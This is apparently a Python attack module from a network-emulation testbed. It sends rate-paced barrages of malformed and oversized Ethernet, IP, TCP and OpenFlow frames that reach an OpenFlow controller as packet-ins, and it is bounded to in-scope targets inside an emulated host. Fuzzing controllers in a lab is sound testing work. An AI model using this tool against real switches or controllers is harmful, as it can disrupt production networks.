"""Hostile frames that reach the OpenFlow controller as packet-ins.

    python -m attacks.ctrl_fuzz --plan PLAN.json --targets 10.0.0.0/24 --out OUT.json
        [--frames 12000] [--rate-fps 3000] [--max-s 30] [--seed 1] [--iface attacker-eth0]

Every frame carries a fresh random source MAC, so no installed flow matches it and the edge
switch sends it to the controller. The frames: truncated Ethernet, ARP, IPv4, TCP and UDP
headers; IPv4 and TCP length fields that lie; odd EtherTypes (LLDP, IPv6, 802.1Q and QinQ
tagged, an unassigned one); TCP segments whose payload is an OpenFlow message; frames of the
largest size the link carries. Frames larger than the interface MTU (true jumbo frames) never
leave a 1500-byte veth, so they are not sent. IPv4 addresses inside frames come only from the
in-scope targets; nothing is routed anywhere: frames stay on the emulated L2 segment.

Bounded by ``--frames`` and ``--max-s``; paced at ``--rate-fps``. Runs only inside an emulated
host. The outcome counts frames sent per kind.
"""

from __future__ import annotations

import argparse
import logging
import random
import socket
import struct
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

from attacks.barrage import BarrageLimits
from attacks.bounds import check_bounds
from common.errors import UserError
from common.hostenv import AttackContext, AttackOutcome, attack_parser, run_attack, utc_now_iso

log = logging.getLogger(__name__)

# Paced at --rate-fps with no ceiling of its own: --frames and --max-s bound the barrage.
LIMITS = BarrageLimits(frames=12_000, max_frames=200_000, rate_fps=3000.0, max_rate_fps=None,
                       max_s=30.0, max_duration_s=300.0)
ETH_MAX_FRAME = 1514  # 1500-byte MTU + 14-byte header, no FCS

KINDS = (
    "truncated_ethernet", "truncated_arp", "truncated_ipv4", "truncated_tcp",
    "truncated_udp", "ipv4_length_lies", "tcp_offset_lies", "lldp", "ipv6", "vlan", "qinq",
    "unassigned_ethertype", "openflow_in_tcp", "max_size",
)

OFP_TYPES = (0, 1, 2, 5, 6, 10, 13, 14)  # hello, error, echo, features, packet-in/out, flow-mod


def random_mac(rng: random.Random) -> bytes:
    """A locally administered unicast MAC (never a real vendor's, never group)."""
    first = (rng.randrange(256) | 0x02) & 0xFE
    return bytes([first]) + rng.randbytes(5)


def _eth(dst: bytes, src: bytes, ethertype: int, payload: bytes) -> bytes:
    return dst + src + struct.pack(">H", ethertype) + payload


def _ip_bytes(addr: str) -> bytes:
    return socket.inet_aton(addr)


def _ipv4(rng: random.Random, src: str, dst: str, proto: int, payload: bytes,
          total_length: int | None = None, ihl: int = 5) -> bytes:
    length = 20 + len(payload) if total_length is None else total_length
    header = struct.pack(">BBHHHBBH4s4s", (4 << 4) | ihl, 0, length & 0xFFFF,
                         rng.randrange(65536), 0, 64, proto, 0, _ip_bytes(src), _ip_bytes(dst))
    return header + payload


def _tcp(rng: random.Random, dport: int, payload: bytes = b"", offset_words: int = 5) -> bytes:
    return struct.pack(">HHIIBBHHH", rng.randrange(1024, 65536), dport, rng.randrange(2**32),
                       0, (offset_words & 0xF) << 4, 0x02, 1024, 0, 0) + payload


def make_frame(kind: str, rng: random.Random, targets: Sequence[str]) -> bytes:
    """One hostile frame of ``kind``; deterministic for a given RNG state."""
    src = random_mac(rng)
    dst = rng.choice((b"\xff" * 6, random_mac(rng)))
    ip_src, ip_dst = rng.choice(targets), rng.choice(targets)
    if kind == "truncated_ethernet":
        return (dst + src)[: rng.randrange(1, 14)] if rng.random() < 0.5 else (dst + src)
    if kind == "truncated_arp":
        arp = struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, src, _ip_bytes(ip_src),
                          b"\0" * 6, _ip_bytes(ip_dst))
        return _eth(dst, src, 0x0806, arp[: rng.randrange(0, len(arp))])
    if kind == "truncated_ipv4":
        ip = _ipv4(rng, ip_src, ip_dst, 6, _tcp(rng, 502))
        return _eth(dst, src, 0x0800, ip[: rng.randrange(0, 20)])
    if kind == "truncated_tcp":
        ip = _ipv4(rng, ip_src, ip_dst, 6, _tcp(rng, rng.choice((502, 80, 6653)))[:
                   rng.randrange(0, 20)])
        return _eth(dst, src, 0x0800, ip)
    if kind == "truncated_udp":
        udp = struct.pack(">HHHH", rng.randrange(65536), 53, 8, 0)[: rng.randrange(0, 8)]
        return _eth(dst, src, 0x0800, _ipv4(rng, ip_src, ip_dst, 17, udp))
    if kind == "ipv4_length_lies":
        lie = rng.choice((0, 1, 19, 21, 65535, rng.randrange(65536)))
        ihl = rng.choice((0, 1, 4, 5, 15))
        return _eth(dst, src, 0x0800, _ipv4(rng, ip_src, ip_dst, 6, _tcp(rng, 502), lie, ihl))
    if kind == "tcp_offset_lies":
        tcp = _tcp(rng, 502, rng.randbytes(rng.randrange(0, 16)), rng.choice((0, 1, 4, 15)))
        return _eth(dst, src, 0x0800, _ipv4(rng, ip_src, ip_dst, 6, tcp))
    if kind == "lldp":
        tlvs = (struct.pack(">H", (1 << 9) | 7) + b"\x04" + src
                + struct.pack(">H", (2 << 9) | rng.randrange(0, 512)) + rng.randbytes(3))
        return _eth(b"\x01\x80\xc2\x00\x00\x0e", src, 0x88CC, tlvs)
    if kind == "ipv6":
        payload_len = rng.choice((0, 8, 65535))
        hdr = struct.pack(">IHBB", 6 << 28, payload_len, rng.choice((6, 17, 58, 59)), 64)
        hdr += rng.randbytes(32)  # link-local-looking garbage addresses, never routed
        return _eth(b"\x33\x33" + rng.randbytes(4), src, 0x86DD,
                    (hdr + rng.randbytes(rng.randrange(0, 24)))[: rng.randrange(0, 80)])
    if kind == "vlan":
        inner = _ipv4(rng, ip_src, ip_dst, 6, _tcp(rng, 502))
        tag = struct.pack(">HH", rng.randrange(65536), 0x0800)
        return _eth(dst, src, 0x8100, (tag + inner)[: rng.randrange(0, 60)])
    if kind == "qinq":
        tags = struct.pack(">HHHH", rng.randrange(65536), 0x8100, rng.randrange(65536), 0x0806)
        return _eth(dst, src, 0x88A8, tags + rng.randbytes(rng.randrange(0, 30)))
    if kind == "unassigned_ethertype":
        return _eth(dst, src, rng.choice((0x0000, 0x05DC, 0x0600, 0x9999, 0xFFFF)),
                    rng.randbytes(rng.randrange(0, 64)))
    if kind == "openflow_in_tcp":
        ofp_type = rng.choice(OFP_TYPES)
        length = rng.choice((8, 0, 7, 65535, rng.randrange(65536)))
        ofp = struct.pack(">BBHI", rng.choice((1, 4, 6, 0xFF)), ofp_type, length,
                          rng.randrange(2**32)) + rng.randbytes(rng.randrange(0, 64))
        tcp = _tcp(rng, rng.choice((6653, 6633)), ofp)
        return _eth(dst, src, 0x0800, _ipv4(rng, ip_src, ip_dst, 6, tcp))
    if kind == "max_size":
        ip = _ipv4(rng, ip_src, ip_dst, 17, rng.randbytes(ETH_MAX_FRAME - 14 - 20))
        return _eth(dst, src, 0x0800, ip)
    raise ValueError(f"unknown frame kind {kind!r}")


def hostile_frames(seed: int, targets: Sequence[str], count: int
                   ) -> Iterator[tuple[str, bytes]]:
    """``count`` (kind, frame) pairs cycling through every kind; same seed, same frames."""
    rng = random.Random(seed)
    for i in range(count):
        kind = KINDS[i % len(KINDS)]
        yield kind, make_frame(kind, rng, targets)


@dataclass
class CtrlFuzzOutcome(AttackOutcome):
    """frames_sent: per kind. send_errors: per errno name (e.g. a frame over the MTU)."""

    iface: str = ""
    frames_planned: int = 0
    frames_sent: dict[str, int] = field(default_factory=dict)
    frames_sent_total: int = 0
    send_errors: dict[str, int] = field(default_factory=dict)
    rate_fps: float = 0.0
    achieved_fps: float = 0.0


def _default_iface() -> str:
    names = [n for _i, n in socket.if_nameindex() if n != "lo"]
    if not names:
        raise UserError("no network interface besides lo in this namespace")
    return names[0]


def build_parser() -> argparse.ArgumentParser:
    p = attack_parser("attacks.ctrl_fuzz",
                      "Hostile frames that reach the OpenFlow controller as packet-ins.")
    LIMITS.add_options(p)
    p.add_argument("--iface", default=None, help="interface to send on (default: the only one)")
    return p


def _validate(args: argparse.Namespace) -> None:
    check_bounds(args, LIMITS.bounds)


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> CtrlFuzzOutcome:
    return CtrlFuzzOutcome(attack="ctrl_fuzz", parameters={}, targets=list(targets),
                           started_at=utc_now_iso(), frames_planned=args.frames,
                           rate_fps=args.rate_fps)


def _body(ctx: AttackContext) -> None:
    args = ctx.args
    out = ctx.outcome
    assert isinstance(out, CtrlFuzzOutcome)
    out.iface = args.iface or _default_iface()
    sent: Counter[str] = Counter()
    errors: Counter[str] = Counter()
    t0 = time.monotonic()
    deadline = t0 + args.max_s
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((out.iface, 0))
        try:
            for i, (kind, frame) in enumerate(hostile_frames(args.seed, ctx.targets,
                                                             args.frames)):
                if ctx.stop_requested or time.monotonic() > deadline:
                    break
                due = t0 + i / args.rate_fps
                pause = due - time.monotonic()
                if pause > 0:
                    time.sleep(pause)
                try:
                    sock.send(frame)
                    sent[kind] += 1
                except OSError as exc:
                    errors[exc.__class__.__name__ if exc.errno is None
                           else (exc.strerror or str(exc.errno))] += 1
        finally:
            elapsed = time.monotonic() - t0
            out.frames_sent = dict(sent)
            out.frames_sent_total = sum(sent.values())
            out.send_errors = dict(errors)
            out.achieved_fps = out.frames_sent_total / elapsed if elapsed > 0 else 0.0
    log.info("sent %d frames in %.1f s", out.frames_sent_total, time.monotonic() - t0)


def main(argv: Sequence[str] | None = None) -> int:
    """Send the barrage; 0 done, 2 refused, 128+N stopped by signal N."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)


if __name__ == "__main__":
    raise SystemExit(main())
